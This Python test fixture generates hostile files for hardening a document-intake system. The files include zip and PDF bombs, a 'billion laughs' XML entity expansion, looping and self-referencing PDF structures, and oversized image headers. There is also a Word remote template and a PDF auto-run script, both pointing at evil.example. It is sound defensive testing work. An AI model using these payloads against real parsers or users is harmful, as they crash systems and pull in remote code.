"""Files made to do harm, as evidence in a case folder: each with the codes of the findings that must name it."""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pikepdf
from PIL import Image

MB = 1 << 20
UNREADABLE = "intake/unreadable intake/file-too-large"
TOO_FAR, ACTIVE = "intake/pdf-partly-read", "intake/active-content"


def write_zip(path: Path, *parts: tuple[str, bytes | Iterator[bytes]]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts:
            with archive.open(name, "w", force_zip64=True) as part:
                for block in [content] if isinstance(content, bytes) else content:
                    part.write(block)


def zeros(size: int, fill: bytes = b"\0") -> Iterator[bytes]:
    yield from (fill * MB for _ in range(size // MB))


# --- Word -----------------------------------------------------------------------------------------------------------

_TYPES = b"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
_W = b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body>"
_END = b"</w:body></w:document>"
_RELS = b"<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>%s</Relationships>"
_TEMPLATE = (
    b"<Relationship Id='rId1' TargetMode='External' Target='https://evil.example/normal.dotm' "
    b"Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>"
)


def docx(path: Path, body: bytes | Iterator[bytes], *more: tuple[str, bytes]) -> None:
    write_zip(path, ("[Content_Types].xml", _TYPES), ("word/document.xml", body), *more)


def word(words: bytes = b"we shipped late") -> bytes:
    return _W + b"<w:p><w:r><w:t>" + words + b"</w:t></w:r></w:p>" + _END


def docx_bomb(path: Path) -> None:
    docx(path, (block for part in ([_W], zeros(120 * MB, b" "), [_END]) for block in part))


def docx_runs(path: Path) -> None:
    docx(path, _W + b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 800_000 + _END)


def docx_deep(path: Path) -> None:
    docx(path, _W + b"<w:p>" * 200_000 + b"</w:p>" * 200_000 + _END)


def docx_entities(path: Path) -> None:
    levels = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    docx(path, b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e0 "lol">' + levels + b"]>" + word(b"&e11;"))


def docx_template(path: Path) -> None:
    docx(path, word(), ("word/settings.xml", b"<w:settings/>"), ("word/_rels/settings.xml.rels", _RELS % _TEMPLATE))


def docx_ole(path: Path) -> None:
    docx(path, word(), ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + bytes(600)))


# --- PDF ------------------------------------------------------------------------------------------------------------


def pdf_of(objects: list[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Write objects with a sound directory; the first is the root."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start))


def stream(content: bytes, head: bytes = b"") -> bytes:
    packed = zlib.compress(content)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(packed), head) + packed + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_SAID = b"BT /F1 12 Tf 72 700 Td (Order report of October) Tj ET"


def one_page(content: bytes, *, box: bytes = b"0 0 595 842", more: bytes = b"", root: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % root, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> >>"
        % (box, more), stream(content), _FONT,
    ]  # fmt: skip


def pdf_pages(path: Path) -> None:
    count = 10_000
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
    page += b"/Resources << /Font << /F1 4 0 R >> >> >>"
    pages = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)
    path.write_bytes(pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", pages, stream(_SAID), _FONT, *[page] * count]))


def pdf_box(path: Path) -> None:
    path.write_bytes(pdf_of(one_page(_SAID, box=b"0 0 1000000000 1000000000")))


def pdf_forms(path: Path) -> None:
    """Forms that draw ten others each, ten deep: ten thousand million lines of text."""
    depth = 10
    page = one_page(b"/X0 Do", more=b"/XObject << /X0 6 0 R >>")
    for level in range(depth):
        inner = b"/Resources << /Font << /F1 5 0 R >> /XObject << /X%d %d 0 R >> >>" % (level + 1, level + 7)
        drawn = b"/X%d Do " % (level + 1) * 10 if level < depth - 1 else _SAID
        page.append(stream(drawn, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + inner))
    page.append(stream(_SAID, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"))
    path.write_bytes(pdf_of(page))


def pdf_nested(path: Path) -> None:
    path.write_bytes(pdf_of([*one_page(_SAID), b"[" * 400_000 + b"]" * 400_000]))


def pdf_loop(path: Path) -> None:
    objects = one_page(_SAID)
    objects[1] = b"<< /Type /Pages /Kids [2 0 R 3 0 R 2 0 R] /Count 99999999 >>"
    path.write_bytes(pdf_of(objects))


def pdf_ends_in_itself(path: Path) -> None:
    raw = pdf_of(one_page(_SAID))
    start = raw.rindex(b"xref\n0")
    path.write_bytes(raw.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start))


def pdf_object_streams(path: Path) -> None:
    """Object streams that hold half a million objects."""
    with pikepdf.open(io.BytesIO(pdf_of(one_page(_SAID)))) as document:
        document.Root.Odd = pikepdf.Array([document.make_indirect(pikepdf.Dictionary(A=n)) for n in range(120_000)])
        document.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_bomb(path: Path) -> None:
    path.write_bytes(pdf_of(one_page(b" " * (100 * MB))))


def pdf_locked(path: Path) -> None:
    with pikepdf.open(io.BytesIO(pdf_of(one_page(_SAID)))) as document:
        document.save(path, encryption=pikepdf.Encryption(user="u", owner="o"))


def pdf_script(path: Path) -> None:
    script = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('https://evil.example'\\)) >>"
    path.write_bytes(pdf_of(one_page(_SAID, root=script)))


def pdf_attached(path: Path) -> None:
    with pikepdf.open(io.BytesIO(pdf_of(one_page(_SAID)))) as document:
        document.attachments["run.exe"] = b"MZ" + bytes(500)
        document.save(path)


def pdf_no_directory(path: Path) -> None:
    raw = pdf_of(one_page(_SAID))
    path.write_bytes(raw[: raw.rindex(b"xref\n0")] + b"garbage" * 50)


# --- pictures -------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, body: bytes, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def png_wide(path: Path) -> None:
    path.write_bytes(png(50_000, 50_000, zlib.compress(bytes(1000))))


def png_full(path: Path) -> None:
    """Just below what is decoded at all: 7,700 by 7,700 pixels in 200 KB."""
    path.write_bytes(png(7_700, 7_700, zlib.compress(bytes(7_700 * (7_700 * 3 + 1)), 9)))


def png_text(path: Path) -> None:
    note = b"Software\0\0" + zlib.compress(bytes(100 * MB), 9)
    path.write_bytes(png(10, 10, zlib.compress(bytes(310)), chunk(b"zTXt", note)))


def png_cut(path: Path) -> None:
    raw = io.BytesIO()
    Image.effect_noise((800, 600), 80).save(raw, "PNG")
    path.write_bytes(raw.getvalue()[: len(raw.getvalue()) // 2])


def gif_frames(path: Path) -> None:
    """Ten thousand frames of a GIF that each claim a screen of 5,000 by 5,000."""
    frame = b"\x2c\0\0\0\0\x88\x13\x88\x13\0\x08\x02\x4c\x01\0"
    screen = b"GIF89a\x88\x13\x88\x13\xf0\0\0" + bytes(6)
    path.write_bytes(screen + frame * 10_000 + b";")


def tiff_frames(path: Path) -> None:
    """A TIFF of four thousand pages, the last of which leads back to the first."""
    out, count = bytearray(b"II*\0" + struct.pack("<I", 8)), 4_000
    size = 2 + 5 * 12 + 4
    for number in range(count):
        tags = [(256, 1), (257, 1), (258, 8), (262, 1), (273, 0)]
        out += struct.pack("<H", len(tags))
        out += b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
        out += struct.pack("<I", 8 + size * (number + 1) if number < count - 1 else 8)
    path.write_bytes(bytes(out))


def jpeg_exif(path: Path) -> None:
    """EXIF whose one directory names four thousand million entries, and one that leads to itself."""
    raw = io.BytesIO()
    Image.new("RGB", (32, 32)).save(raw, "JPEG")
    tiff = b"MM\0*" + struct.pack(">I", 8) + struct.pack(">H", 3)
    tiff += struct.pack(">HHII", 0x8769, 4, 1, 8)
    tiff += struct.pack(">HHII", 0x010F, 2, 0xFFFFFFF0, 8) + struct.pack(">HHII", 0x9286, 7, 0x7FFFFFFF, 8)
    body = b"Exif\0\0" + tiff + struct.pack(">I", 8) + bytes(100)
    jpeg = raw.getvalue()
    path.write_bytes(jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body + jpeg[2:])


def svg_as_jpeg(path: Path) -> None:
    path.write_bytes(b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>" * 3)


def heic_as_jpeg(path: Path) -> None:
    path.write_bytes(
        struct.pack(">I", 24) + b"ftypheic" + bytes(12) + b"ispe" + bytes(4) + struct.pack(">II", 90_000, 90_000)
    )


# --- mails ----------------------------------------------------------------------------------------------------------

_MAIL = b"From: a@example.com\nTo: b@example.com\nSubject: hello\nMIME-Version: 1.0\n"


def mail_nested(path: Path) -> None:
    """Five thousand multiparts within one another."""
    heads = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(5_000))
    path.write_bytes(_MAIL + heads + b"Content-Type: text/plain\n\nhello\n")


def mail_in_mail(path: Path) -> None:
    heads = b"Content-Type: message/rfc822\n\n" + _MAIL
    path.write_bytes(_MAIL + heads * 3_000 + b"\nhello\n")


def mail_parts(path: Path) -> None:
    part = b"--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename=n%d.txt\n\nhello notice\n"
    parts = b"".join(part % number for number in range(12_000))
    path.write_bytes(_MAIL + b"Content-Type: multipart/mixed; boundary=b\n\n" + parts + b"--b--\n")


def mail_head(path: Path) -> None:
    with path.open("wb") as file:
        file.write(_MAIL + b"X-Long: ")
        file.writelines(zeros(100 * MB, b"a"))
        file.write(b"\n\nhello\n")


def mail_base64(path: Path) -> None:
    head = b"Content-Type: application/pdf; name=notice.pdf\nContent-Transfer-Encoding: base64\n"
    path.write_bytes(
        _MAIL + head + b"Content-Disposition: attachment; filename=notice.pdf\n\n" + b"JVBERi0x=!\xff" * 40_000
    )


def mail_winmail(path: Path) -> None:
    body = base64.encodebytes(b"\x78\x9f\x3e\x22" + bytes(800))
    head = b"Content-Type: application/ms-tnef; name=winmail.dat\nContent-Transfer-Encoding: base64\n"
    path.write_bytes(_MAIL + head + b"Content-Disposition: attachment; filename=winmail.dat\n\n" + body)


def page_deep(path: Path) -> None:
    path.write_bytes(b"<html><body>" + b"<div>" * 300_000 + b"hello" + b"</div>" * 300_000)


def page_styles(path: Path) -> None:
    rules = b"".join(b"div.a%d span{color:red}" % number for number in range(20_000))
    path.write_bytes(b"<html><style>" + rules + b"</style><body>" + b"<div class=a1><span>x</span></div>" * 20_000)


# --- text and tables ------------------------------------------------------------------------------------------------


def text_half_a_gigabyte(path: Path) -> None:
    with path.open("wb") as file:
        file.write(b"Dear seller, ")
        file.truncate(500 * MB)


def text_one_line(path: Path) -> None:
    path.write_bytes(b"Dear seller, " + b"your account is at risk " * (9 * MB // 24))


def text_nuls(path: Path) -> None:
    path.write_bytes(b"Dear seller\0\0\0" + b"\0a" * 100_000 + b"\xff\xfe")


def text_wrong_mark(path: Path) -> None:
    path.write_bytes(b"\xff\xfeDear seller, this is no UTF-16 at all")


def csv_wide(path: Path) -> None:
    path.write_bytes(b",".join(b"c%d" % n for n in range(1_000_000)) + b"\n" + b",".join([b"1"] * 1_000_000) + b"\n")


def csv_quote(path: Path) -> None:
    path.write_bytes(b'order-id,date\n"' + b"x,\n" * (2 * MB))


def disguised(head: bytes) -> Callable[[Path], None]:
    return lambda path: (path.write_bytes(head + bytes(4000)), None)[1]


#: File name, what makes it, and the codes of which one at least must be told of it; none: read as harmless.
EVIDENCE: tuple[tuple[str, Callable[[Path], None], str], ...] = (
    ("bomb.docx", docx_bomb, UNREADABLE),
    ("runs.docx", docx_runs, ""),
    ("deep.docx", docx_deep, UNREADABLE),
    ("entities.docx", docx_entities, UNREADABLE),
    ("template.docx", docx_template, "intake/remote-content"),
    ("ole.docx", docx_ole, "intake/embedded-files"),
    ("pages.pdf", pdf_pages, TOO_FAR),
    ("box.pdf", pdf_box, ""),
    ("forms.pdf", pdf_forms, ""),
    ("nested.pdf", pdf_nested, ""),
    ("loop.pdf", pdf_loop, ""),
    ("itself.pdf", pdf_ends_in_itself, ""),
    ("objects.pdf", pdf_object_streams, ""),
    ("bomb.pdf", pdf_bomb, UNREADABLE),
    ("locked.pdf", pdf_locked, "intake/encrypted"),
    ("script.pdf", pdf_script, ACTIVE),
    ("attached.pdf", pdf_attached, "intake/embedded-files"),
    ("directory.pdf", pdf_no_directory, "intake/pdf-repaired intake/unreadable"),
    ("wide.png", png_wide, UNREADABLE),
    ("full.png", png_full, ""),
    ("text.png", png_text, ""),
    ("cut.png", png_cut, UNREADABLE),
    ("frames.gif", gif_frames, ""),
    ("frames.tiff", tiff_frames, ""),
    ("exif.jpg", jpeg_exif, ""),
    ("svg.jpg", svg_as_jpeg, ""),
    ("heic.jpg", heic_as_jpeg, ""),
    ("nested.eml", mail_nested, ""),
    ("mails.eml", mail_in_mail, ""),
    ("parts.eml", mail_parts, ""),
    ("head.eml", mail_head, ""),
    ("base64.eml", mail_base64, ""),
    ("winmail.eml", mail_winmail, "intake/mail-attachment-unread"),
    ("deep.html", page_deep, ""),
    ("styles.html", page_styles, ""),
    ("huge.txt", text_half_a_gigabyte, UNREADABLE),
    ("line.txt", text_one_line, ""),
    ("nuls.txt", text_nuls, ""),
    ("mark.txt", text_wrong_mark, ""),
    ("wide.csv", csv_wide, ""),
    ("quote.csv", csv_quote, ""),
    ("rar.zip", disguised(b"Rar!\x1a\x07\x01\0"), "intake/archive-inside"),
    ("seven.zip", disguised(b"7z\xbc\xaf\x27\x1c"), "intake/archive-inside"),
    ("old.xls", disguised(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), UNREADABLE),
    ("program.pdf", disguised(b"MZ\x90\0"), "intake/executable"),
)  # fmt: skip
